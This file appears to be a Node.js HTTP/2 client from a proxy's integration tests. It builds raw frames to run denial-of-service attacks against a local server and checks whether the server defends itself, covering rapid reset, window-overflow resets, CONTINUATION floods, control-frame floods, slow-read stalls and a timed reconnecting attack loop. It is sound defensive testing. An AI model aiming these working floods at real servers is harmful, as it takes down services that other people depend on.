// An HTTP/2 client for the edge's integration tests (tests/integration/http2_test.cpp), on Node's
// http2 module. Prints one JSON object on stdout.
//   node h2_client.mjs requests <port>         stdin: {"requests": [{method, path, headers, upload}]},
//                                               all sent at once on one connection; `upload` bytes of
//                                               the stream origin's pattern are sent as the body
//   node h2_client.mjs reset <port> <path>      HEADERS then RST_STREAM as fast as it can, until GOAWAY
//   node h2_client.mjs attack <port> <path> <s>  the reset attack again on a new connection each time
//                                               one ends, for s seconds (bench/h2.sh)
//   node h2_client.mjs madeyoureset <port> <path>  HEADERS then a WINDOW_UPDATE that overflows the stream's window (the
//                                               edge resets the stream itself) as fast as it can, until GOAWAY
//   node h2_client.mjs unread <port> <path>      never reads, never acknowledges the edge's SETTINGS, its window shut:
//                                               HEADERS for ever more streams (each past the 100th refused with a
//                                               RST_STREAM the edge must queue), 10 s at most; prints whether the
//                                               edge closed the connection and when
//   node h2_client.mjs continuation <port> <path>  one header block continued for ever, until the connection ends
//   node h2_client.mjs flood <port> <path> <kind>  PING, SETTINGS or PRIORITY frames (kind ping, settings or
//                                               priority) as fast as it can, reading what comes back, until GOAWAY
//   node h2_client.mjs streams <port> <path> <n>  n requests at once on one connection, each left open (no
//                                               END_STREAM) once the edge's SETTINGS came: prints the GOAWAY's
//                                               code and last stream, if the edge sent one within a second
//   node h2_client.mjs quiet <port> <path|->     the preface (and a request for path), then silence, until closed
//   node h2_client.mjs stall <port> <path> [options]  a request for a host wr has no room for, its answer's
//                                               window shut (SETTINGS_INITIAL_WINDOW_SIZE 0), until closed or
//                                               the stream is reset (8 s at most). Options: ping (a PING every
//                                               500 ms meanwhile), cookie=<c> with post (a POST for the shop
//                                               instead, its body never ended, a byte of it every 500 ms),
//                                               cookie=<c> with busy=<path> (beside it, a GET of path for the shop)
//   node h2_client.mjs drain <port> <path> <pid>  a request; once its answer has begun, SIGTERM to pid
//   node h2_client.mjs blocked <port> <path> <pid>  a large download it never reads (the edge's writer blocked on
//                                               it), SIGTERM to pid, then a request for path: prints what came back
//   node h2_client.mjs emptydata <port> <path> <cookie> [ms]
//                                               a GET whose END_STREAM comes in an empty DATA frame
//                                               after its HEADERS (one write, or `ms` apart): prints the answer's body
//   node h2_client.mjs ws <port> <path>         a WebSocket handshake over TLS, ALPN as a browser offers it for one
//   node h2_client.mjs hold <port> <path> <streams> <cookie>
//                                               that many GETs at once on one connection, and never a
//                                               WINDOW_UPDATE: prints {"holding"} once every answer's
//                                               HEADERS came, then keeps the connection open until killed
//   node h2_client.mjs trickle <port> <path> <cookie> <ms>
//                                               one GET whose answer it takes slowly but steadily: each DATA
//                                               frame's bytes are given back (WINDOW_UPDATE) `ms` after they
//                                               came; prints {"trickling"} once 4 MiB came, then takes the
//                                               rest the same way until killed
//   node h2_client.mjs push <port> <path> <streams> <cookie> <bytes>
//                                               that many POSTs of `bytes` each, their DATA sent as fast
//                                               as the edge's windows allow: prints {"pushed", "sent"}
//                                               once the windows stayed shut for half a second (or all is sent),
//                                               then keeps the connection open until killed
//   node h2_client.mjs abandon <port> <path> <streams> <cookie> <ms>
//                                               that many GETs at once on one connection, each reset
//                                               (RST_STREAM CANCEL) `ms` later: prints {"abandoned"} once the
//                                               resets are sent, then keeps the connection open until killed
// With --cleartext first (node h2_client.mjs --cleartext requests <port>), every mode but ws speaks
// HTTP/2 without TLS, with prior knowledge (h2c, http://), as a load balancer in front of wr does;
// the raw modes then write the connection preface in two pieces a moment apart.
import http2 from 'node:http2';
import net from 'node:net';
import tls from 'node:tls';

const args = process.argv.slice(2);
const cleartext = args[0] === '--cleartext';
if (cleartext) args.shift();
const [mode, port, path, pid] = args; // attack: pid is the seconds
const [, , , streamCount, cookie, bodyBytes] = args;
const [, , , trickleCookie, trickleMs] = args;
const authority = `${cleartext ? 'http' : 'https'}://127.0.0.1:${port}`;
const host = 'shop.example.com';

const pattern = (i) => (i * 31 + 7) & 255;
function fnv1a(hash, bytes) {
  for (const b of bytes) hash = BigInt.asUintN(64, (hash ^ BigInt(b)) * 1099511628211n);
  return hash;
}
const hex = (hash) => hash.toString(16).padStart(16, '0');

function connect() {
  if (cleartext) return http2.connect(authority, { settings: { enablePush: false } });
  return http2.connect(authority, { rejectUnauthorized: false, servername: 'localhost', settings: { enablePush: false } });
}

// One request: status, headers, body length, its FNV-1a and (when short) its text.
function request(session, spec) {
  const started = Date.now();
  return new Promise((resolve) => {
    const headers = { ':method': spec.method || 'GET', ':path': spec.path, ':authority': host, ...(spec.headers || {}) };
    if (spec.upload) headers['content-length'] = String(spec.upload);
    // expectContinue: the body waits for the edge's 100 (Node's 'continue'), as curl's does.
    if (spec.expectContinue) headers.expect = '100-continue';
    const stream = session.request(headers, { endStream: !spec.upload });
    const result = { status: 0, headers: {}, length: 0, text: '', error: null, informational: [] };
    stream.on('headers', (h) => result.informational.push(h[':status'])); // 1xx blocks, 100 included
    let hash = 1469598103934665603n;
    const chunks = [];
    stream.on('response', (h) => {
      result.status = h[':status'];
      for (const [k, v] of Object.entries(h)) if (!k.startsWith(':')) result.headers[k] = v;
    });
    stream.on('data', (chunk) => {
      if (result.length === 0) result.firstMs = Date.now() - started;
      result.length += chunk.length;
      hash = fnv1a(hash, chunk);
      if (result.length <= 65536) chunks.push(chunk);
    });
    stream.on('end', () => {
      result.fnv1a = hex(hash);
      const binary = String(result.headers['content-type'] || '').includes('octet-stream');
      if (result.length <= 65536 && !binary) result.text = Buffer.concat(chunks).toString('utf8');
      resolve(result);
    });
    stream.on('error', (e) => { result.error = String(e.code || e.message); resolve(result); });
    stream.on('close', () => { if (stream.rstCode) result.error = result.error || `rst ${stream.rstCode}`; resolve(result); });
    if (spec.upload) {
      const total = spec.upload;
      let sent = 0;
      const piece = 65536;
      const more = () => {
        while (sent < total) {
          const n = Math.min(piece, total - sent);
          const buf = Buffer.allocUnsafe(n);
          for (let i = 0; i < n; ++i) buf[i] = pattern(sent + i);
          sent += n;
          if (!stream.write(buf)) return stream.once('drain', more);
        }
        stream.end();
      };
      if (spec.expectContinue) stream.once('continue', more);
      else more();
    }
  });
}

async function requests() {
  let input = '';
  for await (const chunk of process.stdin) input += chunk;
  const plan = JSON.parse(input);
  const session = connect();
  const started = Date.now();
  session.on('error', () => {});
  await new Promise((r) => session.once('connect', r));
  const alpn = session.alpnProtocol;
  const results = await Promise.all(plan.requests.map((spec) => request(session, spec).then((r) => ({ ...r, ms: Date.now() - started }))));
  const enableConnectProtocol = Boolean(session.remoteSettings.enableConnectProtocol);
  session.close();
  return { alpn, enableConnectProtocol, results };
}

// Raw HTTP/2 over TLS (or cleartext), for the attacks (Node's client would not send them): the
// preface, and every frame read back parsed far enough to see a GOAWAY's error code.
async function raw(settings = Buffer.alloc(0), acknowledge = true) {
  let socket;
  if (cleartext) {
    socket = net.connect({ host: '127.0.0.1', port: Number(port), noDelay: true });
    await new Promise((r) => socket.once('connect', r));
  } else {
    socket = tls.connect({ host: '127.0.0.1', port: Number(port), servername: 'localhost', rejectUnauthorized: false,
      ALPNProtocols: ['h2'] });
    await new Promise((r) => socket.once('secureConnect', r));
  }
  const frame = (type, flags, id, payload) => {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head[3] = type;
    head[4] = flags;
    head.writeUInt32BE(id, 5);
    return Buffer.concat([head, payload]);
  };
  // goaway: the GOAWAY's error code; lastStream: the last stream the edge says it processed;
  // pingAcks and settingsAcks: the PING and SETTINGS frames the edge acknowledged (what it read,
  // counted on its side of the wire, however fast this client wrote).
  const connection = { socket, frame, goaway: null, lastStream: null, pingAcks: 0, settingsAcks: 0, closed: false, onFrame: null };
  let received = Buffer.alloc(0);
  socket.on('data', (d) => {
    received = Buffer.concat([received, d]);
    while (received.length >= 9) {
      const length = received.readUIntBE(0, 3);
      if (received.length < 9 + length) break;
      if (received[3] === 7) {
        connection.lastStream = received.readUInt32BE(9) & 0x7fffffff;
        connection.goaway = received.readUInt32BE(9 + 4);
      }
      if (received[3] === 6 && received[4] & 1) ++connection.pingAcks;
      if (received[3] === 4 && received[4] & 1) ++connection.settingsAcks;
      if (connection.onFrame)
        connection.onFrame(received[3], received.readUInt32BE(5) & 0x7fffffff, length, received.subarray(9, 9 + length), received[4]);
      if (acknowledge && received[3] === 4 && !(received[4] & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // SETTINGS ack
      received = received.subarray(9 + length);
    }
  });
  socket.on('error', () => {});
  socket.on('close', () => { connection.closed = true; });
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  if (cleartext) { // the edge must wait for the whole preface before it knows the connection is HTTP/2
    socket.write(preface.subarray(0, 16));
    await new Promise((r) => setTimeout(r, 50));
    socket.write(Buffer.concat([preface.subarray(16), frame(4, 0, 0, settings)]));
  } else {
    socket.write(Buffer.concat([preface, frame(4, 0, 0, settings)]));
  }
  return connection;
}

// An HPACK integer with an N-bit prefix, the first byte's other bits `high`.
function hpackInteger(bits, high, value) {
  const max = (1 << bits) - 1;
  if (value < max) return [high | value];
  const bytes = [high | max];
  for (value -= max; value >= 128; value >>= 7) bytes.push((value & 127) | 128);
  bytes.push(value);
  return bytes;
}
// A literal field without indexing, its name the static table's entry `index`, its value raw.
function literal(index, value) {
  const bytes = Buffer.from(value);
  return Buffer.concat([Buffer.from([...hpackInteger(4, 0, index), ...hpackInteger(7, 0, bytes.length)]), bytes]);
}

// <method> https://shop.example.com<path>: indexed :method (GET, or POST) and :scheme https (http in
// cleartext),
// literal :authority and :path, then any `more` fields ([static index, value]).
function request_block(authority = host, target = path, method = 'GET', more = []) {
  return Buffer.concat([Buffer.from([method === 'POST' ? 0x83 : 0x82, cleartext ? 0x86 : 0x87]), literal(1, authority), literal(4, target),
                        ...more.map(([index, value]) => literal(index, value))]);
}

// Writes `perBatch` rounds of `frames(id)` (the frames for stream `id`, odd ids counting up) a
// batch at a time, reading what comes back, until a GOAWAY comes, the connection closes, 100,000
// rounds went, or 5 s (or `until`) passed; then waits `linger` ms and closes.
async function untilGoaway(c, perBatch, frames, until = Date.now() + 5000, linger = 200) {
  let sent = 0;
  let id = 1;
  const deadline = Math.min(until, Date.now() + 5000);
  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 100000) {
    const batch = [];
    for (let i = 0; i < perBatch; ++i, id += 2, ++sent) batch.push(...frames(id));
    c.socket.write(Buffer.concat(batch));
    await new Promise((r) => setImmediate(r));
  }
  await new Promise((r) => setTimeout(r, linger));
  c.socket.destroy();
  return { sent, goaway: c.goaway, lastStream: c.lastStream, pingAcks: c.pingAcks, settingsAcks: c.settingsAcks };
}

// The rapid-reset attack: HEADERS for a new stream then RST_STREAM(CANCEL) for it, in batches,
// until a GOAWAY comes back.
async function reset(until = Date.now() + 5000, linger = 200) {
  const c = await raw();
  const block = request_block();
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(8);
  return untilGoaway(c, 50, (id) => [c.frame(1, 0x5, id, block), c.frame(3, 0, id, cancel)], until, linger);
}

// Resets the edge makes itself: each stream's request, then a WINDOW_UPDATE past the largest
// window (a flow-control error nghttp2 answers with RST_STREAM), in batches, until a GOAWAY.
async function madeyoureset() {
  const c = await raw();
  const block = request_block();
  const overflow = Buffer.alloc(4);
  overflow.writeUInt32BE(0x7fffffff);
  return untilGoaway(c, 50, (id) => [c.frame(1, 0x5, id, block), c.frame(8, 0, id, overflow)]);
}

// A client that makes the edge queue frames it never reads: SETTINGS_INITIAL_WINDOW_SIZE 0, the
// edge's SETTINGS never acknowledged (so nghttp2 refuses each stream past the 100th with a
// RST_STREAM of its own), and the socket never read.
async function unread() {
  const windowShut = Buffer.alloc(6);
  windowShut.writeUInt16BE(4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
  windowShut.writeUInt32BE(0, 2);
  const c = await raw(windowShut, false);
  c.socket.pause();
  const block = request_block();
  const started = Date.now();
  let sent = 0;
  let id = 1;
  while (!c.closed && Date.now() - started < 10000) {
    const batch = [];
    for (let i = 0; i < 1000; ++i, id += 2, ++sent) batch.push(c.frame(1, 0x5, id, block));
    if (!c.socket.write(Buffer.concat(batch))) await Promise.race([new Promise((r) => c.socket.once('drain', r)), new Promise((r) => setTimeout(r, 100))]);
    await new Promise((r) => setImmediate(r));
    if (id > 0x7fff0000) break;
  }
  const closedAfterMs = c.closed ? Date.now() - started : null;
  c.socket.destroy();
  return { sent, closed: closedAfterMs !== null, ms: closedAfterMs };
}

// The reset attack for `seconds`, reconnecting whenever the edge ends a connection.
async function attack() {
  const deadline = Date.now() + Number(pid) * 1000;
  const totals = { connections: 0, sent: 0, goaways: 0 };
  while (Date.now() < deadline) {
    const one = await reset(deadline, 0);
    totals.connections += 1;
    totals.sent += one.sent;
    if (one.goaway !== null) totals.goaways += 1;
  }
  return totals;
}

// A flood of one control frame, read answers and all, until a GOAWAY comes back (5 s at most).
async function flood() {
  const c = await raw();
  const kind = pid;
  const priority = Buffer.from([0, 0, 0, 0, 15]); // depends on nothing, weight 16
  // PRIORITY frames get no answer: a PING after every 20 says, by its acknowledgement, how many
  // of them the edge read.
  const make = { ping: () => [c.frame(6, 0, 0, Buffer.alloc(8))], settings: () => [c.frame(4, 0, 0, Buffer.alloc(0))],
    priority: (id) => (id % 40 === 39 ? [c.frame(2, 0, id, priority), c.frame(6, 0, 0, Buffer.alloc(8))] : [c.frame(2, 0, id, priority)]) }[kind];
  if (!make) throw new Error(`flood: no such kind ${kind}`);
  return untilGoaway(c, 20, make);
}

// `n` streams opened at once and left open (their requests never end), once the edge's SETTINGS
// (and its bound on concurrent streams) came and were acknowledged; then a second for the edge to
// object: its GOAWAY's error code and the last stream it took, if it sent one.
async function streams() {
  const c = await raw();
  const n = Number(pid);
  let settled = false;
  let last = null;
  c.onFrame = (type, id, length, payload) => {
    if (type === 4 && id === 0) settled = true;
    if (type === 7) last = payload.readUInt32BE(0) & 0x7fffffff;
  };
  for (const until = Date.now() + 5000; !settled && Date.now() < until;) await new Promise((r) => setTimeout(r, 10));
  const block = request_block();
  const frames = [];
  for (let i = 0; i < n; ++i) frames.push(c.frame(1, 0x4, 1 + 2 * i, block)); // END_HEADERS, not END_STREAM
  c.socket.write(Buffer.concat(frames));
  for (const until = Date.now() + 1000; c.goaway === null && Date.now() < until;) await new Promise((r) => setTimeout(r, 10));
  c.socket.destroy();
  return { goaway: c.goaway, last };
}

// The CONTINUATION flood: one HEADERS without END_HEADERS, then CONTINUATION frames of a header
// that never ends, until the connection ends. A frame every 10 ms: `sent` counts what the edge
// read before it ended the connection, however slow the edge is (a sanitizer build).
async function continuation() {
  const c = await raw();
  c.socket.write(c.frame(1, 0x1, 1, request_block()));
  // Each frame whole small fields (literal, new name "x-a", value "b"): valid HPACK, never ending.
  const field = Buffer.from([0x00, 0x03, 0x78, 0x2d, 0x61, 0x01, 0x62]);
  const fragment = Buffer.concat(Array(2000).fill(field));
  let sent = 0;
  const deadline = Date.now() + 5000;
  while (c.goaway === null && !c.closed && Date.now() < deadline && sent < 10000) {
    c.socket.write(c.frame(9, 0, 1, fragment));
    ++sent;
    await new Promise((r) => setTimeout(r, 10));
  }
  await new Promise((r) => setTimeout(r, 200));
  c.socket.destroy();
  return { sent, goaway: c.goaway, closed: c.closed };
}

// A connection that goes quiet: after the preface alone (path "-"), or after one request for
// path; how long until the edge closes it.
async function quiet() {
  const c = await raw();
  const started = Date.now();
  if (path !== '-') c.socket.write(c.frame(1, 0x5, 1, request_block()));
  while (!c.closed && Date.now() - started < 8000) await new Promise((r) => setTimeout(r, 20));
  c.socket.destroy();
  return { closed: c.closed, ms: Date.now() - started, goaway: c.goaway };
}

// A visitor that never opens its windows: the answer's HEADERS arrive, its DATA cannot. Meanwhile
// it may keep the connection lively in every other way (the options above).
async function stall() {
  const options = Object.fromEntries(args.slice(3).map((o) => [o.split('=')[0], o.includes('=') ? o.slice(o.indexOf('=') + 1) : true]));
  const windowShut = Buffer.from([0x00, 0x04, 0x00, 0x00, 0x00, 0x00]); // SETTINGS_INITIAL_WINDOW_SIZE = 0
  const c = await raw(windowShut);
  let reset = null;
  let resetMs = null;
  c.onFrame = (type, id, length, payload) => {
    if (type === 3 && id === 1) {
      reset = payload.readUInt32BE(0);
      resetMs = Date.now() - started;
    }
  };
  const started = Date.now();
  if (options.post) c.socket.write(c.frame(1, 0x4, 1, request_block(host, path, 'POST', [[k_cookie, options.cookie]])));
  else c.socket.write(c.frame(1, 0x5, 1, request_block('nowhere.example.com')));
  if (options.busy) c.socket.write(c.frame(1, 0x5, 3, request_block(host, options.busy, 'GET', [[k_cookie, options.cookie]])));
  let lively = Date.now();
  while (!c.closed && reset === null && Date.now() - started < 8000) {
    await new Promise((r) => setTimeout(r, 20));
    if (Date.now() - lively < 500) continue;
    lively = Date.now();
    if (options.ping) c.socket.write(c.frame(6, 0, 0, Buffer.alloc(8)));
    if (options.post) c.socket.write(c.frame(0, 0, 1, Buffer.from('x')));
  }
  c.socket.destroy();
  return { closed: c.closed, ms: Date.now() - started, reset, resetMs };
}

// A drain while the edge's writer waits on a visitor that does not read: a download it never
// reads past the kernel's buffers (its windows wide open), SIGTERM to the server, then a new stream.
async function blocked() {
  const wide = Buffer.alloc(6);
  wide.writeUInt16BE(4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
  wide.writeUInt32BE(0x7fffffff, 2);
  const c = await raw(wide);
  const more = Buffer.alloc(4);
  more.writeUInt32BE(0x7fffffff - 65535);
  const frames = [];
  c.onFrame = (type, id) => frames.push([type, id]);
  c.socket.write(Buffer.concat([c.frame(8, 0, 0, more), c.frame(1, 0x5, 1, request_block(host, '/bytes?n=1000000000'))]));
  await new Promise((r) => setTimeout(r, 300));
  c.socket.pause();
  await new Promise((r) => setTimeout(r, 1500));
  process.kill(Number(pid), 'SIGTERM');
  await new Promise((r) => setTimeout(r, 500));
  c.socket.write(c.frame(1, 0x5, 3, request_block(host, path)));
  await new Promise((r) => setTimeout(r, 1000));
  c.socket.destroy();
  return { closed: c.closed, frames: frames.length };
}

// A GET that ends in an empty DATA frame rather than on its HEADERS, both in one write.
async function emptydata() {
  const c = await raw();
  let body = '';
  let ended = false;
  c.onFrame = (type, id, length, payload, flags) => {
    if (id !== 1) return;
    if (type === 0) body += payload.toString('utf8');
    if ((type === 0 || type === 1) && (flags & 1)) ended = true;
    if (type === 3) ended = true;
  };
  const headers = c.frame(1, 0x4, 1, request_block(host, path, 'GET', [[k_cookie, pid]]));
  const end = c.frame(0, 0x1, 1, Buffer.alloc(0));
  const gap = Number(args[4] || 0);
  if (gap > 0) {
    c.socket.write(headers);
    await new Promise((r) => setTimeout(r, gap));
    c.socket.write(end);
  } else {
    c.socket.write(Buffer.concat([headers, end]));
  }
  for (const until = Date.now() + 5000; !ended && !c.closed && Date.now() < until;) await new Promise((r) => setTimeout(r, 10));
  c.socket.destroy();
  return { ended, body };
}

async function drain() {
  const session = connect();
  let goaway = null;
  session.on('goaway', (code, last) => { goaway = { code, last }; });
  session.on('error', () => {});
  await new Promise((r) => session.once('connect', r));
  const stream = session.request({ ':path': path, ':authority': host });
  const result = { status: 0, body: '', error: null };
  stream.on('response', (h) => {
    result.status = h[':status'];
    process.kill(Number(pid), 'SIGTERM');
  });
  stream.setEncoding('utf8');
  stream.on('data', (d) => { result.body += d; });
  await new Promise((r) => { stream.on('end', r); stream.on('error', (e) => { result.error = String(e.code); r(); }); });
  // A new stream after GOAWAY is refused by the client itself or by the server.
  await new Promise((r) => setTimeout(r, 100));
  return { ...result, goaway };
}

async function ws() {
  const socket = tls.connect({ host: '127.0.0.1', port: Number(port), servername: 'localhost', rejectUnauthorized: false,
    ALPNProtocols: ['http/1.1'] });
  await new Promise((r) => socket.once('secureConnect', r));
  socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n');
  let received = '';
  await new Promise((r) => {
    socket.on('data', (d) => { received += d.toString('latin1'); if (received.includes('\r\n\r\n')) r(); });
    socket.on('close', r);
    setTimeout(r, 5000);
  });
  const alpn = socket.alpnProtocol;
  socket.destroy();
  return { alpn, status: received.split('\r\n')[0] };
}

const k_cookie = 32;
const k_content_length = 28;

// Streams that wait on the origin's large answers and never take more of them than the first
// windows (65,535 bytes for the connection, HTTP/2's default, which this client never raises).
async function hold() {
  const c = await raw();
  const streams = Number(streamCount);
  const answered = new Set();
  let data = 0;
  c.onFrame = (type, id, length) => {
    if (type === 1) answered.add(id);
    if (type === 0) data += length;
  };
  const started = Date.now();
  const block = request_block(host, path, 'GET', [[k_cookie, cookie]]);
  const frames = [];
  for (let i = 0; i < streams; ++i) frames.push(c.frame(1, 0x5, 1 + 2 * i, block));
  c.socket.write(Buffer.concat(frames));
  while (answered.size < streams && !c.closed && Date.now() - started < 8000) await new Promise((r) => setTimeout(r, 20));
  await new Promise((r) => process.stdout.write(JSON.stringify({ holding: true, answered: answered.size, data, closed: c.closed }) + '\n', r));
  await new Promise(() => {}); // until killed
}

// Streams that give up: each reset a while after it was sent (while it waits for an origin
// connection under the zone's cap, in the test that uses it).
async function abandon() {
  const c = await raw();
  const streams = Number(streamCount);
  const block = request_block(host, path, 'GET', [[k_cookie, cookie]]);
  const requests = [];
  for (let i = 0; i < streams; ++i) requests.push(c.frame(1, 0x5, 1 + 2 * i, block));
  c.socket.write(Buffer.concat(requests));
  await new Promise((r) => setTimeout(r, Number(args[5])));
  const cancel = Buffer.from([0, 0, 0, 8]); // CANCEL
  const resets = [];
  for (let i = 0; i < streams; ++i) resets.push(c.frame(3, 0, 1 + 2 * i, cancel));
  c.socket.write(Buffer.concat(resets));
  await new Promise((r) => process.stdout.write(JSON.stringify({ abandoned: true, closed: c.closed }) + '\n', r));
  await new Promise(() => {}); // until killed
}

// A visitor slower than the origin that never stops: its windows reopen a little at a time.
async function trickle() {
  const c = await raw();
  let received = 0;
  let told = false;
  const update = (id, increment) => {
    const payload = Buffer.alloc(4);
    payload.writeUInt32BE(increment);
    return c.frame(8, 0, id, payload);
  };
  c.onFrame = (type, id, length) => {
    if (type !== 0 || id !== 1 || length === 0) return;
    received += length;
    setTimeout(() => c.socket.write(Buffer.concat([update(1, length), update(0, length)])), Number(trickleMs));
    if (!told && received >= 4 << 20) {
      told = true;
      process.stdout.write(JSON.stringify({ trickling: true, received }) + '\n');
    }
  };
  c.socket.write(c.frame(1, 0x5, 1, request_block(host, path, 'GET', [[k_cookie, trickleCookie]])));
  await new Promise(() => {}); // until killed
}

// Streams that send large bodies to an origin that does not read them: DATA goes out only as
// the edge's windows allow (its SETTINGS and WINDOW_UPDATEs, applied here as RFC 9113 says).
async function push() {
  const c = await raw();
  const streams = Number(streamCount);
  const total = Number(bodyBytes);
  let connectionWindow = 65535;
  let initialWindow = 65535;
  let credited = Date.now();
  const open = [];
  const block = request_block(host, path, 'POST', [[k_cookie, cookie], [k_content_length, String(total)]]);
  for (let i = 0; i < streams; ++i) {
    const id = 1 + 2 * i;
    open.push({ id, left: total, window: initialWindow });
    c.socket.write(c.frame(1, 0x4, id, block));
  }
  const byId = new Map(open.map((s) => [s.id, s]));
  c.onFrame = (type, id, length, payload) => {
    if (type === 8) { // WINDOW_UPDATE
      const increment = payload.readUInt32BE(0) & 0x7fffffff;
      if (id === 0) connectionWindow += increment;
      else if (byId.has(id)) byId.get(id).window += increment;
      credited = Date.now();
    } else if (type === 4 && length > 0) { // SETTINGS: a new initial window changes every open stream's
      for (let at = 0; at + 6 <= length; at += 6)
        if (payload.readUInt16BE(at) === 4) {
          const value = payload.readUInt32BE(at + 2);
          for (const s of open) s.window += value - initialWindow;
          initialWindow = value;
          credited = Date.now();
        }
    } else if (type === 3 && byId.has(id)) { // RST_STREAM: nothing more on it
      byId.get(id).left = 0;
    }
  };
  const piece = Buffer.alloc(16384);
  let sent = 0;
  const started = Date.now();
  while (Date.now() - started < 8000 && !c.closed) {
    let wrote = false;
    for (const s of open) {
      const n = Math.min(s.left, s.window, connectionWindow, piece.length);
      if (n <= 0) continue;
      s.left -= n;
      s.window -= n;
      connectionWindow -= n;
      sent += n;
      wrote = true;
      if (!c.socket.write(c.frame(0, s.left === 0 ? 0x1 : 0, s.id, piece.subarray(0, n))))
        await new Promise((r) => c.socket.once('drain', r));
    }
    if (open.every((s) => s.left === 0)) break;
    if (!wrote) {
      if (Date.now() - credited > 500) break;
      await new Promise((r) => setTimeout(r, 10));
    } else {
      await new Promise((r) => setImmediate(r));
    }
  }
  await new Promise((r) => process.stdout.write(JSON.stringify({ pushed: true, sent, ms: Date.now() - started, closed: c.closed }) + '\n', r));
  await new Promise(() => {}); // until killed
}

const run = { requests, reset: () => reset(), madeyoureset, unread, attack, continuation, flood, streams, quiet, stall, drain, blocked, emptydata, ws, hold, trickle, push, abandon }[mode];
// Exits once stdout has taken the whole line (a pipe takes it asynchronously).
run().then((out) => process.stdout.write(JSON.stringify(out) + '\n', () => process.exit(0)),
  (e) => process.stdout.write(JSON.stringify({ failed: String(e) }) + '\n', () => process.exit(1)));
